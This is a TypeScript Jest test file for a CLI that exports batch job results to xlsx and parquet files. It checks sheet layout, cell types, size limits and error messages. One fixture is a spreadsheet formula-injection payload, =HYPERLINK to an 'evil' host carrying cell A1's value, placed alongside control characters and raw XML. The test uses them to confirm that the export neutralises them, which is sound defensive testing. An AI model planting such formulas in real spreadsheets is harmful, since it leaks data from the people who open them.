import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import AdmZip from "adm-zip";
import { parquetReadObjects } from "hyparquet";
import { readXlsx } from "../../../src/worker/documents/formats/xlsx.ts";
import { answered as settled } from "../work-by-hand.ts";
import { insertFinishedBatch } from "../../support/finished-batch.ts";
import type { FinishedJob } from "../../support/finished-batch.ts";
import { READER_LIMITS } from "../../support/read-documents.ts";
import { openDesk } from "../desk.ts";
import type { Desk } from "../desk.ts";
import { CHECKED_RECORD, runByHand } from "../runs-by-hand.ts";

const FORMULA = `=HYPERLINK("http://evil/?"&A1,"open")`;
const HOSTILE = `${FORMULA}\u0001\u202e\ufffe <c t="str"><f>1+1</f></c> _x0041_`;
const jobs: readonly FinishedJob[] = [
  {
    ...{ customId: "=1+1", answer: HOSTILE, promptTokens: 7, runMs: 90_000 },
    input: { kind: "ask", question: "@SUM(A1)" },
  },
  {
    ...{ customId: "gone", state: "refused", code: "FILE_NOT_FOUND", message: "-2+3" },
    input: { kind: "summarize", path: "gone.md" },
  },
  { customId: "long", answer: "x".repeat(40_000), input: { kind: "ask", question: "?" } },
];

let desk: Desk;
let checked = "";
beforeAll(async () => {
  desk = await openDesk();
  const ids = await insertFinishedBatch(desk.database, { name: "night", jobs });
  await desk.database.query(
    `insert into nightdesk_data.field_bindings (run_id, ordinal, pointer, value, state, grade, quote, number, path, start_char, end_char, line_start, line_end)
     select run_id, 0, '/total', '12.5'::jsonb, 'bound', 'supported', 'Total 12.50', 1, 'allowed/corpus/bill.md', 0, 11, 4, 6
       from nightdesk_data.jobs where job_id = $1`,
    [ids.get("long")],
  );
  checked = (await runByHand(desk.database, settled("Yes [1]."), CHECKED_RECORD)).batchId;
  await desk.database.query(
    "update nightdesk_data.claims set line_end = line_end + 1 where line_end is not null",
  );
  await desk.database.query("update nightdesk_data.runs set model_first = 'chooser:1b'");
});
afterAll(() => desk.dispose());

async function exported(batch: string, format: "xlsx" | "parquet"): Promise<Buffer> {
  const file = join(desk.workroot, `${batch}.${format}`);
  const words = ["batch", "export", batch, "--format", format, "--output", file, "--force"];
  const { code, stderr } = await desk.run(...words);
  expect(`${code} ${stderr}`).toMatch(/^0 /);
  return readFile(file);
}

/** The text of a workbook as the index reads it. */
function textOf(bytes: Buffer): string {
  const read = readXlsx(bytes, READER_LIMITS.text);
  return read.kind === "text" ? read.text : read.kind;
}

describe("batch export --format xlsx", () => {
  test("writes jobs, statements with their places and fields, which the index reads again", async () => {
    const night = textOf(await exported("night", "xlsx"));
    expect(night).toContain("FILE_NOT_FOUND");
    expect(night).toContain("line_start: 4; line_end: 6; quote: Total 12.50");
    expect(night).toContain("model: small:1b");
    expect(night).toContain("/total");
    const claims = textOf(await exported(checked, "xlsx"));
    expect(claims).toMatch(
      /It holds ten\..*supported.*path: allowed\/corpus\/a\.md; line_start: 2; line_end: 3; quote: It holds exactly ten\./,
    );
    expect(claims).toMatch(/It is always blue\..*unconfirmed/);
  });

  test("freezes the titles, and gives numbers and times their types", async () => {
    const zip = new AdmZip(await exported("night", "xlsx"));
    const sheets = zip
      .getEntries()
      .filter(({ entryName }) => /worksheets\/sheet\d+\.xml$/.test(entryName));
    expect(sheets).toHaveLength(3);
    for (const sheet of sheets) {
      expect(zip.readAsText(sheet)).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    }
    const [results = "", , fields = ""] = sheets.map((sheet) => zip.readAsText(sheet));
    expect(results).toMatch(/<c [^>]*r="K2"[^>]*><v>7<\/v>/);
    expect(results).toMatch(/<c r="N2" s="\d+"(?: t="n")?><v>\d{5}(\.\d+)?<\/v>/);
    expect(fields).toMatch(/<v>12\.5<\/v>/);
  });

  test("holds no formula, no character that XML lacks, and no cell that a spreadsheet refuses", async () => {
    const bytes = await exported("night", "xlsx");
    const zip = new AdmZip(bytes);
    const parts = zip.getEntries().filter(({ entryName }) => entryName.endsWith(".xml"));
    const xml = parts.map((part) => zip.readAsText(part)).join("\n");
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).not.toMatch(/[\u0000-\u0008\ufffe]/);
    expect(xml).toContain("_x005F_x0041_");
    const text = textOf(bytes);
    expect(text).toContain(FORMULA.slice(0, 20));
    expect(text).toContain("(cut: --format csv has all of it)");
    expect(text).not.toContain("x".repeat(32_768));
  });

  test("is refused on stdout and with outputs of steps, and keeps a file that is there", async () => {
    const bare = await desk.run("batch", "export", "night", "--format", "xlsx");
    expect(bare).toMatchObject({ code: 2, stdout: "" });
    expect(bare.stderr).toContain("--format xlsx needs --output FILE");
    const words = ["batch", "export", "night", "--format", "xlsx", "--output", "there.xlsx"];
    expect((await desk.run(...words, "--with-outputs")).code).toBe(2);
    await desk.write("there.xlsx", "mine");
    expect((await desk.run(...words)).stderr).toContain("is there already");
    expect(await readFile(join(desk.workroot, "there.xlsx"), "utf8")).toBe("mine");
  });

  test("says what to use instead for a batch that a workbook can't hold", async () => {
    const input = { kind: "ask", question: "?" };
    await insertFinishedBatch(desk.database, {
      name: "large",
      jobs: [{ customId: "j", answer: "x", input }],
    });
    await desk.database.query(
      "update nightdesk_data.runs set answer = repeat('x', 41000000) where answer = 'x'",
    );
    const ran = await desk.run(
      ...["batch", "export", "large", "--format", "xlsx", "--output", "large.xlsx"],
    );
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/INPUT_INVALID.*Use --format csv or parquet/);
    await expect(readFile(join(desk.workroot, "large.xlsx"))).rejects.toThrow("ENOENT");
  });
});

describe("batch export --format parquet", () => {
  const rowsIn = async (bytes: Buffer) => {
    const file = new Uint8Array(bytes).buffer;
    return parquetReadObjects({ file });
  };

  test("writes a row a job with types, which another program reads", async () => {
    const rows = await rowsIn(await exported("night", "parquet"));
    expect(rows.map(({ custom_id: id }) => id as unknown)).toEqual(["=1+1", "gone", "long"]);
    expect(rows[0]).toMatchObject({ kind: "ask", prompt_tokens: 7n, task: "@SUM(A1)" });
    expect(rows[0]?.["created_at"]).toEqual(new Date("2026-11-20T21:00:00Z"));
    expect(rows[1]).toMatchObject({ answer: null, error_code: "FILE_NOT_FOUND" });
    expect(rows[2]?.["answer"]).toHaveLength(40_000);
  });

  test("writes several groups of rows, and a file of titles for a batch without jobs", async () => {
    const names = Array.from({ length: 1_201 }, (_, at) => `j${at}`);
    const lines = names.map((name) => `{"custom_id":"${name}","kind":"chat","prompt":"?"}`);
    const file = await desk.write("many.jsonl", lines.join("\n"));
    await desk.run("enqueue", file, "--batch-name", "many");
    const rows = await rowsIn(await exported("many", "parquet"));
    expect(rows.map(({ custom_id: id }) => id as unknown)).toEqual(names);
    await insertFinishedBatch(desk.database, { name: "none", jobs: [] });
    expect(await rowsIn(await exported("none", "parquet"))).toEqual([]);
  });
});
